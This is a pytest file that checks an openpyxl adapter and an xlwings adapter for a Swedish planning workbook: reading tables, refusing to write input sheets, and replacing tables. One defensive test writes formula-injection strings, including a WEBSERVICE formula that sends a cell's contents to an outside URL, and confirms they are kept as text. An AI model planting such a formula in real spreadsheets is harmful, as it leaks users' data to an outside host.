"""One contract, two adapters: the .xlsx file adapter (openpyxl) and the live-Excel adapter (xlwings,
on its remote engine) read the same tables and write the output sheets the same way."""

import shutil

import pytest

from rules.errors import VPError
from tests.remote import EXAMPLE, applied, payload_after, remote_book, table_below_header
from workbook import layout as L
from workbook.tables import NotAVPWorkbook
from workbook.xlsx import XlsxBook
from xl_addin.book_adapter import XlwingsBook


class FileSide:
    name = "fil"

    def __init__(self, tmp_path, notes=None):
        import openpyxl

        self.path = tmp_path / "VP2025.xlsx"
        shutil.copy(EXAMPLE, self.path)
        if notes:
            wb = openpyxl.load_workbook(self.path)
            for (sheet, cell), text in notes.items():
                wb[sheet][cell] = text
            wb.save(self.path)
        self.adapter = XlsxBook(self.path)

    def reopen(self):
        """What a second reader sees after the writes."""
        self.adapter.save()
        self.adapter = XlsxBook(self.path)
        return self.adapter

    def grid(self, sheet):
        import openpyxl

        ws = openpyxl.load_workbook(self.path)[sheet]
        return [[("" if v is None else v) for v in row] for row in ws.iter_rows(values_only=True)]


class ExcelSide:
    name = "excel"

    def __init__(self, tmp_path, notes=None):
        self.book = remote_book(edits=notes)
        self.adapter = XlwingsBook(self.book)

    def reopen(self):
        self.book = __import__("xlwings").Book(json=payload_after(self.book))
        self.adapter = XlwingsBook(self.book)
        return self.adapter

    def grid(self, sheet):
        return applied(self.book)[sheet]


NOTE = (L.FINDINGS, "E6")  # beside the findings table (three columns wide)


@pytest.fixture(params=[FileSide, ExcelSide], ids=["fil", "excel"])
def side(request, tmp_path):
    return request.param(tmp_path, notes={NOTE: "anteckning"})


def test_both_read_the_indicator_table_alike(side):
    required, optional = L.indicator_columns(2025)
    table = side.adapter.read_table(L.INDICATORS, list(required), list(optional))
    assert table.header_row == L.HEADER_ROW
    assert table.rows == list(range(5, 29))
    assert list(table.frame[L.ID]) == [f"I{n:02d}" for n in range(1, 25)]
    assert list(table.frame[L.KF])[:7] == [1, 1, 1, 1, 1, 1, 2]  # whole numbers, as typed
    assert table.frame[L.BASELINE].iloc[10] == "71,9 (2023)"   # text as typed
    assert str(table.place(2, L.OUTCOME)) == "Indikatorer!K7"
    assert L.SCORE not in table.frame.columns  # only what was asked for


def test_both_name_a_missing_column(side):
    with pytest.raises(NotAVPWorkbook, match="Bladet Indikatorer saknar kolumnen Utfallet"):
        side.adapter.read_table(L.INDICATORS, ["Id", "Utfallet"])


@pytest.mark.parametrize("sheet", [L.INDICATORS, L.BUDGET, L.RULEBOOK])
def test_both_refuse_to_write_an_input_sheet(side, sheet):
    with pytest.raises(VPError, match="inget utdatablad"):
        side.adapter.write_table(sheet, ["A"], [["x"]])
    with pytest.raises(VPError, match="inget utdatablad"):
        side.adapter.append_row(sheet, ["A"], ["x"])


def test_both_write_text_that_looks_like_a_formula_as_text(side):
    hostile = ["=WEBSERVICE(\"http://x/?\"&A1)", "+46 8 123", "-5 är fel", "@SUMMA(A1)"]
    side.adapter.write_table(L.FINDINGS, L.FINDINGS_HEADERS, [[text, "R1", text] for text in hostile])
    side.reopen()
    rows = table_below_header(side.grid(L.FINDINGS))
    shown = [str(row[0]).lstrip("'") for row in rows]
    assert shown == hostile
    table = side.adapter.read_table(L.FINDINGS, L.FINDINGS_HEADERS[:1], L.FINDINGS_HEADERS[1:])
    assert [str(x).lstrip("'") for x in table.frame["Plats"]] == hostile


def test_both_replace_a_table_and_keep_a_note_beside_it(side):
    side.adapter.write_table(L.FINDINGS, L.FINDINGS_HEADERS, [["a", "R1", "första"], ["b", "R1", "andra"]])
    adapter = side.reopen()
    adapter.write_table(L.FINDINGS, L.FINDINGS_HEADERS, [["c", "R1", "tredje"]])
    adapter.append_row(L.LOG, L.LOG_HEADERS, ["2025-03-01", "ekonom", "Uppdatering", "inga ändringar"])
    adapter.append_row(L.LOG, L.LOG_HEADERS, ["2025-03-02", "ekonom", "Uppdatering", "inga ändringar"])
    side.reopen()
    grid = side.grid(L.FINDINGS)
    rows = table_below_header(grid)
    assert [row[:3] for row in rows] == [["c", "R1", "tredje"], [None, None, None]]  # the old second row cleared
    assert grid[5][4] == "anteckning"  # E6: the note stays
    log = table_below_header(side.grid(L.LOG))
    assert [row[1] for row in log] == ["ekonom", "ekonom"] and [row[0] for row in log][1].startswith("2025-03-02")


def test_both_tell_where_the_formulas_read_the_indicator_table(side):
    assert side.adapter.defined_range(L.INDICATOR_TABLE_NAME) == (L.INDICATORS, L.HEADER_ROW, 128)
    assert side.adapter.defined_range("Finns inte") is None
